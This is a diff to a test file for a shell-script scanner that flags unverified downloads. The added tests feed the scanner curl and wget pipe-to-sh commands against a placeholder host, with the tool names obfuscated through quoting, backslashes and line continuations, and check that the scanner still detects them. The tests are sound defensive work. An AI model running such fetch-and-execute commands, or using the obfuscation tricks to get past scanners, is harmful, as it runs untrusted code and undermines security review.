@@ -160,9 +160,27 @@ describe('unverified-downloads verdicts', () => {
   });
 
   it('reports an unparsable script at the parser position, never throwing', () => {
-    const outcome = runScript('echo ok\nif true; then\n');
+    const outcome = runScript('curl -fsSLo tool https://e.com/tool\nif true; then\n');
     expect(outcome.findings).toMatchObject([{ severity: 'info', path: 'install.sh', line: 2 }]);
     expect(outcome.status).toBe('partial');
+  });
+
+  it('passes, unparsed, a script that cannot name curl or wget, however it is written', () => {
+    const outcome = runScript('echo ok\nif true; then\n');
+    expect(outcome).toMatchObject({ status: 'pass', findings: [] });
+    expect(outcome.evidence[0]?.summary).toMatch(/^1 shell scripts analysed.*0 not parsable/);
+  });
+
+  it.each([
+    ["c'u'rl https://e.com/i.sh | sh", 'curl'],
+    ['c\\url https://e.com/i.sh | sh', 'curl'],
+    ['"cu"\\\nrl https://e.com/i.sh | sh', 'curl'],
+    ["w$'get' -qO- https://e.com/i.sh | sh", 'wget'],
+    ['/usr/bin/wget -qO- https://e.com/i.sh | sh', 'wget'],
+  ])('still reads a downloader named in pieces: %s', (script, tool) => {
+    const outcome = runScript(`${script}\n`);
+    expect(outcome.findings).toMatchObject([{ severity: 'high', line: 1 }]);
+    expect(outcome.findings[0]?.message).toMatch(new RegExp(`^${tool} downloads`));
   });
 
   it('does not take curl -o file | sh for a pipe of the download', () => {
